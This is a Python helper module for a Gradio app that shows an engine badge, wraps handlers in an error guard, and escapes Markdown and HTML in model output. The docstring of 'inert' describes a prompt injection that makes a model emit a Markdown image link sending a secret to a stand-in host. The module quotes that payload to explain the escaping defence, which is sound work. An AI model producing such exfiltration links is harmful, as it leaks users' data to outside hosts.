"""What every tab shares: the engine badge, a guard that turns failures into a warning, warnings as Markdown."""

from __future__ import annotations

import logging
import os
import re
from collections.abc import Callable
from typing import Any

os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")  # before gradio is imported: no phoning home

import gradio as gr

from coach.errors import CoachError

log = logging.getLogger(__name__)
# Characters that start Markdown images, links, emphasis, code or autolinks.
_ACTIVE = re.compile(r"[\\`*_\[\]()!#|~]")


def engine_badge(engine: str, model: str | None) -> str:
    """The label that tells users which engine wrote a result."""
    return f"LLM engine: {model}" if engine == "llm" else "Offline engine (rule-based)"


def guard(what: str, fn: Callable[[], list[Any]], width: int) -> list[Any]:
    """Run a handler body; on failure a toast and `width` skipped outputs, never a traceback."""
    try:
        return fn()
    except CoachError as exc:
        gr.Warning(str(exc))
    except Exception as exc:  # a library bug: one line for the user, the traceback in the server log
        log.exception("%s failed", what)
        gr.Warning(f"Unexpected {type(exc).__name__}: {exc} — please report this.")
    return [gr.skip() for _ in range(width)]


def inert(text: str) -> str:
    """Text from a model or a paste, made safe to put inside Markdown: no image, link or HTML comes alive.

    A prompt injection in a pasted text could make a model answer `![x](http://host/leak.png?d=SECRET)`; rendered,
    the browser would fetch it. Markdown's active characters are escaped, so it shows as the characters it is.
    """
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return _ACTIVE.sub(lambda m: "\\" + m.group(), text)


def notes_markdown(warnings: list[str]) -> str:
    return "\n".join(f"⚠ {inert(w)}  " for w in warnings)
